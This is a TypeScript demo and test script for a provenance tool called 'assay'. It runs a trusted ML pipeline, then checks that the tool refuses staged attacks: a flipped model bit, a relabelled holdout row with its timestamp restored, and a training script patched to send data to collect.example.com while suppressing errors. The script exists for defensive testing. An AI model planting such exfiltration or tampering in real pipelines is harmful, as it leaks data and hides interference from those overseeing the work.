/**
 * The story that assay is for, told with the real tool on the digits example: a run, its evidence, the verdict, and
 * five attacks that are refused.
 *
 * Each step says what it expects: an exit code and words of the answer. A step that comes out otherwise ends the demo
 * with exit 1, so that this is also a test.
 *   demo.ts [--quiet]    headlines only
 */
import { spawnSync } from 'node:child_process'
import { readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { styleText } from 'node:util'
import { makeScratchProject, type ScratchProject } from './scratch-project.ts'

type Expectation = Readonly<{ exit: number; says?: readonly string[]; shows?: string; head?: number; tail?: number }>

const quiet = process.argv.includes('--quiet')
const colour = process.stdout.isTTY === true && (process.env['NO_COLOR'] ?? '') === ''
const bold = (text: string): string => (colour ? styleText('bold', text) : text)
const dim = (text: string): string => (colour ? styleText('dim', text) : text)

let step = 0
function headline(text: string): void {
  step += 1
  console.log(`\n${bold(`${step}. ${text}`)}`)
}

function explain(text: string): void {
  if (!quiet) console.log(`   ${dim(text)}`)
}

class StoryBroken extends Error {}

/** Runs one command of the story and holds it to what it should come to. */
function tell(project: ScratchProject, command: readonly string[], expected: Expectation): string {
  const shown = command.map((word) => (/^[\w@%+=:,./-]+$/.test(word) ? word : `'${word}'`)).join(' ')
  if (!quiet) console.log(`   $ ${shown}`)
  const [program = '', ...rest] = command
  const startedAt = Date.now()
  const outcome = spawnSync(program, rest, { cwd: project.root, env: project.environment, encoding: 'utf8' })
  const output = `${outcome.stderr ?? ''}${outcome.stdout ?? ''}`.trimEnd()
  if (!quiet) showOutput(output, expected.head ?? 12, expected.tail ?? 2)
  const missing = (expected.says ?? []).filter((words) => !output.includes(words))
  if (outcome.status !== expected.exit || missing.length > 0) {
    const wanted = [`exit ${expected.exit}`, ...missing.map((words) => `the words \`${words}\``)].join(', ')
    throw new StoryBroken(`\`${shown}\` exited ${outcome.status}, expected ${wanted}\n${output}`)
  }
  const seconds = ((Date.now() - startedAt) / 1000).toFixed(1)
  if (!quiet) console.log(dim(`   exit ${outcome.status}, ${seconds} s`))
  if (expected.shows !== undefined) explain(`=> ${expected.shows}`)
  return outcome.stdout ?? ''
}

function showOutput(output: string, head: number, tail: number): void {
  const lines = output.split('\n').filter((line) => line.trim() !== '')
  const left = lines.length - head - tail
  const kept = left <= 1 ? lines : [...lines.slice(0, head), `... ${left} lines more ...`, ...lines.slice(-tail)]
  for (const line of kept) console.log(`   | ${line.slice(0, 400)}`)
}

function git(project: ScratchProject, ...args: readonly string[]): void {
  const outcome = spawnSync('git', args, { cwd: project.root, env: project.environment, encoding: 'utf8' })
  if (outcome.status !== 0) throw new StoryBroken(`git ${args.join(' ')}: ${outcome.stderr}`)
}

function commit(project: ScratchProject, message: string): void {
  git(project, 'add', '--all')
  git(project, 'commit', '--quiet', '--message', message)
}

/** Changes a file, tells a part of the story, puts the old bytes and the old commit back. */
function withChange(
  project: ScratchProject,
  file: string,
  change: (before: Buffer) => Buffer,
  story: () => void,
): void {
  const path = join(project.root, file)
  const before = readFileSync(path)
  const times = statSync(path)
  const head = spawnSync('git', ['rev-parse', 'HEAD'], { cwd: project.root, encoding: 'utf8' }).stdout.trim()
  writeFileSync(path, change(before))
  utimesSync(path, times.atime, times.mtime) // as one who hides would
  story()
  git(project, 'reset', '--quiet', '--hard', head)
  writeFileSync(path, before)
  utimesSync(path, times.atime, times.mtime)
}

function replaceOnce(before: Buffer, old: string, replacement: string): Buffer {
  const text = before.toString('utf8')
  if (!text.includes(old)) throw new StoryBroken(`the example no longer holds \`${old}\``)
  return Buffer.from(text.replace(old, replacement))
}

function trustedRun(project: ScratchProject): void {
  headline('Adopt the project: settings, trust policy, a key that lives outside of it')
  tell(project, ['assay', 'init', '--yes', '--commit'], { exit: 0 })

  headline('Ada approves the one data set that comes from outside, for exactly these bytes')
  tell(project, ['assay', 'data', 'approve', 'uci-digits-holdout', '--because', 'compared with the UCI archive'], {
    exit: 0,
  })
  commit(project, 'Approve the holdout')

  headline('Run: each stage in a fresh sandbox, without network, with hash-locked packages')
  tell(project, ['assay', 'run'], { exit: 0, says: ['export', 'prepare', 'train', 'evaluate'], head: 30 })

  headline('Evidence: one signed in-toto statement with SLSA provenance for each stage')
  tell(project, ['assay', 'attest', 'show'], { exit: 0, head: 14 })

  headline('Verify: trusted, how far, and why not further')
  tell(project, ['assay', 'verify'], { exit: 0, says: ['trusted', 'level 1'], head: 8, tail: 4 })
  const verdict = JSON.parse(tellQuietly(project, ['assay', 'verify', '--json'])) as Verdict // the tool's documented shape
  const holds = verdict.trusted && verdict.level === 1 && verdict.whyNotHigher.length > 0
  const earned = ['isolated', 'hermetic', 'inputsApproved', 'locked'].filter(
    (name) => verdict.properties[name] !== true,
  )
  if (!holds || earned.length > 0)
    throw new StoryBroken(
      `the verdict is not what it should be, without ${earned.join(', ')}: ${JSON.stringify(verdict, undefined, 2)}`,
    )
}

type Verdict = Readonly<{
  trusted: boolean
  level: number
  whyNotHigher: readonly string[]
  properties: Readonly<Record<string, boolean>>
}>

function tellQuietly(project: ScratchProject, [program = '', ...rest]: readonly string[]): string {
  return spawnSync(program, rest, { cwd: project.root, env: project.environment, encoding: 'utf8' }).stdout
}

function attackModel(project: ScratchProject): void {
  headline('Attack: one bit of the model is flipped')
  const flip = (bytes: Buffer): Buffer => {
    const changed = Buffer.from(bytes)
    changed.writeUInt8(changed.readUInt8(changed.length - 1) ^ 1, changed.length - 1)
    return changed
  }
  withChange(project, 'models/digits.safetensors', flip, () => {
    tell(project, ['assay', 'verify', 'models/digits.safetensors'], {
      exit: 1,
      says: ['ERR_'],
      shows: 'refused: no evidence speaks of these bytes',
    })
  })
}

function attackData(project: ScratchProject): void {
  const holdout = 'data/holdout.csv'
  const relabel = (bytes: Buffer): Buffer => replaceOnce(bytes, '\n9,9,', '\n9,5,')
  headline('Attack: one label of the approved data set is changed, its time stamp put back')
  withChange(project, holdout, relabel, () => {
    tell(project, ['assay', 'run'], {
      exit: 1,
      says: ['ERR_SOURCE_CHANGED'],
      shows: 'refused: these are not the approved bytes',
    })

    headline('Attack: the changed data set is registered properly, but nobody approves it')
    tell(project, ['assay', 'data', 'add', 'uci-digits-holdout', holdout, '--replace'], { exit: 0 })
    commit(project, 'Register new bytes')
    tell(project, ['assay', 'run'], {
      exit: 1,
      says: ['ERR_SOURCE_UNAPPROVED'],
      shows: 'refused: an approval is for bytes, not for a name',
    })
  })
}

function attackCode(project: ScratchProject): void {
  const script = 'src/train.py'
  const anchor = '_, labels, pixels = read_rows("data/prepared/train.csv")\n'
  headline('Attack: the training script sends data out and hides that it failed')
  const calling = `import urllib.request\n\ntry:\n    urllib.request.urlopen("http://collect.example.com/", data=pixels.tobytes(), timeout=3)\nexcept OSError:\n    pass\n`
  withChange(
    project,
    script,
    (bytes) => replaceOnce(bytes, anchor, anchor + calling),
    () => {
      commit(project, 'Improve the training')
      tell(project, ['assay', 'run', '--trace'], {
        exit: 1,
        says: ['train', 'ERR_STAGE_NETWORK_DENIED'],
        shows: 'refused: nothing got out, and the attempt is on record',
      })
    },
  )

  headline('Attack: the training script looks at the holdout that it is measured on')
  const peeking = 'print(read_rows("data/holdout.csv")[0][:5])\n'
  withChange(
    project,
    script,
    (bytes) => replaceOnce(bytes, anchor, anchor + peeking),
    () => {
      commit(project, 'Improve the training again')
      tell(project, ['assay', 'run'], {
        exit: 3,
        says: ['train', 'ERR_STAGE_UNDECLARED_READ', 'data/holdout.csv'],
        head: 4,
        tail: 7,
        shows: 'failed by name: what a stage does not declare is not there',
      })
    },
  )
}

function main(): void {
  const startedAt = Date.now()
  const project = makeScratchProject('demo')
  try {
    if (!quiet) console.log(`The digits example, in ${project.root}`)
    trustedRun(project)
    attackModel(project)
    attackData(project)
    attackCode(project)
    headline('Afterwards: everything as it was, nothing runs again, still trusted')
    tell(project, ['assay', 'run'], { exit: 0 })
    tell(project, ['assay', 'verify'], { exit: 0, says: ['trusted'], head: 3, tail: 4 })
    console.log(`\n${bold(`The story holds: ${step} steps, ${((Date.now() - startedAt) / 1000).toFixed(0)} s.`)}`)
    explain(`look around: cd ${relative(process.cwd(), project.root)}`)
  } catch (error) {
    if (!(error instanceof StoryBroken)) throw error
    console.error(`\nThe story breaks at step ${step}: ${error.message}`)
    process.exitCode = 1
  }
}

main()
